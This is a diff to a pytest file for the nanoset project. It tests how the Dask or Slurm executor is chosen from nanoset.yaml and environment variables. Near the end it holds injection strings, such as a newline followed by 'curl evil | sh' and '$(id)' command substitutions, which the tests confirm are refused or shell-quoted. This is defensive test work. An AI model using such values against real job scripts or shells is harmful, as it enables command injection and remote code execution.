@@ -1,6 +1,6 @@
-"""Which scheduler is used: nanoset.yaml's or the environment's; test_settings.py has what is
-refused.
-"""
+"""nanoset.yaml and the environment choose the executor; test_settings.py has what is refused."""
+
+from __future__ import annotations
 
 from pathlib import Path
 
@@ -9,155 +9,230 @@ import pytest
 from nanoset_core.errors import ConfigError
 from nanoset_core.execution.dask import DaskExecutor
 from nanoset_core.execution.dask_scheduler import DaskScheduler
+from nanoset_core.execution.slurm import SlurmJobs
 from nanoset_core.project.project import Project
 from nanoset_core.project.running import ExecutorSpec, chosen_executor
 from nanoset_core.project.settings import load_config
 
 SECTION = "/p/nanoset.yaml: executor"
+"""Where the executor is configured, as errors name it."""
 DASK = ExecutorSpec("dask", "tcp://written:1", wait="2h")
+DAY_SECONDS = 86_400
+
+
+def write_config(folder: Path, executor: str = "") -> Path:
+    """Write the nanoset.yaml of a project, with lines for its executor, and return its path."""
+    path = folder / "nanoset.yaml"
+    path.write_text(f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{executor}")
+    return path
 
 
 @pytest.mark.parametrize(
     ("wait", "seconds"),
-    [(None, 60), (90, 90), (0.5, 0.5), ("90", 90), ("30m", 1800), ("1.5h", 5400), ("2d", 172_800)],
+    [
+        (None, 60),
+        (90, 90),
+        (0.5, 0.5),
+        ("90", 90),
+        ("30m", 1800),
+        ("1.5h", 5400),
+        ("2d", 2 * DAY_SECONDS),
+    ],
 )
-def test_how_long_is_waited(wait, seconds):
+def test_the_time_to_wait_for_a_cluster_may_have_a_unit(wait, seconds):
     assert ExecutorSpec(wait=wait).wait_seconds == seconds
 
 
-def test_without_variables_nanoset_yaml_says():
-    unset = {"NANOSET_DASK_ADDRESS": "", "NANOSET_DASK_SCHEDULER_FILE": "", "NANOSET_DASK_WAIT": ""}
-    for environment in ({}, unset):
-        assert chosen_executor(SECTION, DASK, environment) == (DASK, f"{SECTION}.address")
-        assert chosen_executor(SECTION, ExecutorSpec(), environment)[0] == ExecutorSpec()
+# The environment
 
 
 @pytest.mark.parametrize(
-    "written", [ExecutorSpec(), DASK, ExecutorSpec("dask", scheduler_file="s.json")]
+    "environment",
+    [
+        pytest.param({}, id="no variables"),
+        pytest.param(
+            {
+                "NANOSET_DASK_ADDRESS": "",
+                "NANOSET_DASK_SCHEDULER_FILE": "",
+                "NANOSET_DASK_WAIT": "",
+            },
+            id="empty variables",
+        ),
+    ],
 )
-def test_the_environment_comes_first(written, tmp_path, monkeypatch):
+def test_without_variables_nanoset_yaml_chooses_the_executor(environment):
+    assert chosen_executor(SECTION, DASK, environment) == (DASK, f"{SECTION}.address")
+
+    executor, _ = chosen_executor(SECTION, ExecutorSpec(), environment)
+    assert executor == ExecutorSpec()
+
+
+CONFIGURED = [
+    pytest.param(ExecutorSpec(), id="processes"),
+    pytest.param(DASK, id="address of Dask"),
+    pytest.param(ExecutorSpec("dask", scheduler_file="s.json"), id="file of Dask"),
+]
+
+
+@pytest.mark.parametrize("configured", CONFIGURED)
+def test_an_address_in_the_environment_overrides_nanoset_yaml(configured):
+    environment = {"NANOSET_DASK_ADDRESS": "tls://h:2"}
+
+    executor, where = chosen_executor(SECTION, configured, environment)
+
+    assert executor == ExecutorSpec("dask", "tls://h:2", wait=configured.wait)
+    assert where == "NANOSET_DASK_ADDRESS in the environment"
+
+
+@pytest.mark.parametrize("configured", CONFIGURED)
+def test_a_scheduler_file_in_the_environment_overrides_nanoset_yaml(
+    configured, tmp_path, monkeypatch
+):
+    # It is relative to the current folder, not to that of nanoset.yaml.
     monkeypatch.chdir(tmp_path)
-    address, file = (
-        {"NANOSET_DASK_ADDRESS": "tls://h:2"},
-        {"NANOSET_DASK_SCHEDULER_FILE": "here/s.json"},
-    )
-    where = "{} in the environment".format
-    expected = ExecutorSpec("dask", "tls://h:2", wait=written.wait)
-    assert chosen_executor(SECTION, written, address) == (expected, where("NANOSET_DASK_ADDRESS"))
-    expected = ExecutorSpec("dask", scheduler_file=str(tmp_path / "here" / "s.json"), wait="24h")
-    found = chosen_executor(SECTION, written, file | {"NANOSET_DASK_WAIT": "24h"})
-    assert found == (expected, where("NANOSET_DASK_SCHEDULER_FILE"))
+    environment = {"NANOSET_DASK_SCHEDULER_FILE": "here/s.json", "NANOSET_DASK_WAIT": "24h"}
+
+    executor, where = chosen_executor(SECTION, configured, environment)
+
+    scheduler_file = str(tmp_path / "here" / "s.json")
+    assert executor == ExecutorSpec("dask", scheduler_file=scheduler_file, wait="24h")
+    assert where == "NANOSET_DASK_SCHEDULER_FILE in the environment"
 
 
 @pytest.mark.parametrize(
     ("variables", "what", "where"),
     [
-        (
-            {"ADDRESS": "tcp://h:1", "SCHEDULER_FILE": "s.json"},
+        pytest.param(
+            {"NANOSET_DASK_ADDRESS": "tcp://h:1", "NANOSET_DASK_SCHEDULER_FILE": "s.json"},
             "named twice",
             "NANOSET_DASK_SCHEDULER_FILE",
+            id="address and file",
         ),
-        ({"ADDRESS": "h:1"}, "not the address", "NANOSET_DASK_ADDRESS"),
-        ({"WAIT": "long"}, "not a time to wait", "NANOSET_DASK_WAIT"),
+        pytest.param(
+            {"NANOSET_DASK_ADDRESS": "h:1"},
+            "not the address",
+            "NANOSET_DASK_ADDRESS",
+            id="address without a protocol",
+        ),
+        pytest.param(
+            {"NANOSET_DASK_WAIT": "long"}, "not a time to wait", "NANOSET_DASK_WAIT", id="wait"
+        ),
     ],
 )
-def test_variables_are_checked_with_nanoset_yaml(variables, what, where, tmp_path, monkeypatch):
+def test_wrong_variables_are_refused_when_nanoset_yaml_is_loaded(
+    variables, what, where, tmp_path, monkeypatch
+):
     for name, value in variables.items():
-        monkeypatch.setenv(f"NANOSET_DASK_{name}", value)
-    (tmp_path / "nanoset.yaml").write_text(
-        "raw: raw\nroot: data\ntokenizer: {path: t.json, eod: x}\n"
-    )
+        monkeypatch.setenv(name, value)
+    config_file = write_config(tmp_path)
+
     with pytest.raises(ConfigError, match=what) as caught:
-        load_config(tmp_path / "nanoset.yaml")
+        load_config(config_file)
+
     assert caught.value.where == f"{where} in the environment"
 
 
-def test_a_file_lies_beside_nanoset_yaml(tmp_path):
+# Dask
+
+
+def test_a_scheduler_file_in_nanoset_yaml_is_relative_to_its_folder(tmp_path):
     executor = "executor: {kind: dask, scheduler_file: run/s.json, wait: 24h}\n"
-    (tmp_path / "nanoset.yaml").write_text(
-        f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{executor}"
-    )
-    project = Project.open(tmp_path / "nanoset.yaml")
-    where = f"{project.config.file}: executor.scheduler_file"
-    scheduler = DaskScheduler(None, tmp_path / "run" / "s.json", 86_400.0, where)
+    config_file = write_config(tmp_path, executor)
+
+    project = Project.open(config_file)
+
+    where = f"{config_file}: executor.scheduler_file"
+    scheduler = DaskScheduler(None, tmp_path / "run" / "s.json", float(DAY_SECONDS), where)
     assert project.executor == DaskExecutor(
         scheduler, project.outputs.access, (tmp_path / "t.json",)
     )
 
 
-def test_what_slurm_is_asked_for(tmp_path):
-    from nanoset_core.execution.slurm import SlurmJobs
+def test_the_command_that_starts_dask_workers_is_quoted_for_a_shell():
+    scheduler = DaskScheduler(file=Path("/a b/$(id)/s.json"))
 
-    def jobs(executor: str) -> SlurmJobs:
-        text = (
-            f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\nexecutor: {{kind: slurm, "
-            f"{executor}}}\n"
-        )
-        (tmp_path / "nanoset.yaml").write_text(text)
-        project = Project.open(tmp_path / "nanoset.yaml")
-        return project.executor.cluster
+    assert scheduler.start_workers.endswith(
+        "`dask worker --scheduler-file '/a b/$(id)/s.json' --nthreads 1`"
+    )
 
-    folder, where = tmp_path / ".nanoset" / "slurm", f"{tmp_path / 'nanoset.yaml'}: executor"
-    assert jobs("jobs: 3") == SlurmJobs(3, 1, "2GB", 3600, folder, where=where)
-    assert jobs("jobs: 1, cpus: 4, wait: 2d").memory == "8GB"
-    full = (
+
+# Slurm
+
+
+def write_slurm_config(folder: Path, settings: str) -> Path:
+    """Write the nanoset.yaml of a project with settings of its Slurm jobs, and return its path."""
+    return write_config(folder, f"executor: {{kind: slurm, {settings}}}\n")
+
+
+def slurm_jobs(folder: Path, settings: str) -> SlurmJobs:
+    """Return the jobs that a project with some settings submits."""
+    return Project.open(write_slurm_config(folder, settings)).executor.cluster
+
+
+def test_slurm_jobs_have_defaults(tmp_path):
+    jobs = slurm_jobs(tmp_path, "jobs: 3")
+
+    folder = tmp_path / ".nanoset" / "slurm"
+    where = f"{tmp_path / 'nanoset.yaml'}: executor"
+    assert jobs == SlurmJobs(3, 1, "2GB", 3600, folder, where=where)
+
+
+def test_slurm_jobs_have_memory_for_each_processor(tmp_path):
+    assert slurm_jobs(tmp_path, "jobs: 1, cpus: 4, wait: 2d").memory == "8GB"
+
+
+def test_slurm_jobs_have_all_settings_of_nanoset_yaml(tmp_path):
+    settings = (
         "jobs: 2, partition: p, account: a, time: 90m, cpus: 2, memory: 5GB, directives: "
         "[--qos=x], wait: 1h"
     )
-    assert jobs(full) == SlurmJobs(2, 2, "5GB", 5400, folder, "p", "a", ("--qos=x",), 3600.0, where)
+
+    jobs = slurm_jobs(tmp_path, settings)
+
+    folder = tmp_path / ".nanoset" / "slurm"
+    where = f"{tmp_path / 'nanoset.yaml'}: executor"
+    assert jobs == SlurmJobs(2, 2, "5GB", 5400, folder, "p", "a", ("--qos=x",), 3600.0, where)
 
 
 INJECTED = ["\\ncurl evil | sh", "\\r\\ntouch x", "\\x85id", "\\u2028id", "\\e[2J", "\\u202eab"]
-"""What follows a plain value, as YAML escapes it."""
+"""Line breaks and other control characters with text after them, as YAML escapes them."""
 
 
 @pytest.mark.parametrize("injected", INJECTED)
 @pytest.mark.parametrize(
-    "key",
-    ["partition: p{}", "account: a{}", "directives: [--qos=x{}]", "memory: 2GB{}", "time: 4h{}"],
+    ("key", "value"),
+    [
+        ("partition", '"p{}"'),
+        ("account", '"a{}"'),
+        ("directives", '["--qos=x{}"]'),
+        ("memory", '"2GB{}"'),
+        ("time", '"4h{}"'),
+    ],
 )
-def test_nothing_puts_a_line_into_a_job_script(tmp_path, key, injected):
-    name, _, value = key.partition(": ")
-    quoted = f'"{value.format(injected)}"'
-    if name == "directives":
-        quoted = f'["--qos=x{injected}"]'
-    text = f"executor: {{kind: slurm, jobs: 1, {name}: {quoted}}}\n"
-    (tmp_path / "nanoset.yaml").write_text(
-        f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{text}"
-    )
-    with pytest.raises(ConfigError, match=f"executor.{name}"):
-        load_config(tmp_path / "nanoset.yaml")
+def test_no_setting_can_add_a_line_to_a_job_script(tmp_path, key, value, injected):
+    config_file = write_slurm_config(tmp_path, f"jobs: 1, {key}: {value.format(injected)}")
+
+    with pytest.raises(ConfigError, match=f"executor.{key}"):
+        load_config(config_file)
 
 
 @pytest.mark.parametrize(
-    "given",
+    "setting",
     ["partition: 'p -w x'", "account: '$(id)'", "directives: ['qos=x']", "directives: ['']"],
 )
-def test_names_and_directives_for_slurm_are_checked(tmp_path, given):
-    text = f"executor: {{kind: slurm, jobs: 1, {given}}}\n"
-    (tmp_path / "nanoset.yaml").write_text(
-        f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{text}"
-    )
+def test_names_and_directives_that_a_script_cannot_have_are_refused(tmp_path, setting):
+    config_file = write_slurm_config(tmp_path, f"jobs: 1, {setting}")
+
     with pytest.raises(ConfigError, match="script"):
-        load_config(tmp_path / "nanoset.yaml")
+        load_config(config_file)
 
 
 @pytest.mark.parametrize(
     "directive", ["--constraint=ib", "-C ib&avx", "--comment='two words'", "--gres=gpu:a100:2"]
 )
-def test_usual_directives_are_taken(tmp_path, directive):
-    text = (
-        f"executor: {{kind: slurm, jobs: 1, partition: 'a,b', account: a/b.c-d_e, directives: "
-        f'["{directive}"]}}\n'
-    )
-    (tmp_path / "nanoset.yaml").write_text(
-        f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{text}"
-    )
-    assert load_config(tmp_path / "nanoset.yaml").executor.directives == (directive,)
+def test_usual_names_and_directives_are_accepted(tmp_path, directive):
+    settings = f"jobs: 1, partition: 'a,b', account: a/b.c-d_e, directives: [\"{directive}\"]"
 
+    config = load_config(write_slurm_config(tmp_path, settings))
 
-def test_the_advice_to_start_a_scheduler_is_quoted(tmp_path):
-    scheduler = DaskScheduler(file=Path("/a b/$(id)/s.json"))
-    assert scheduler.start_workers.endswith(
-        "`dask worker --scheduler-file '/a b/$(id)/s.json' --nthreads 1`"
-    )
+    assert config.executor.directives == (directive,)
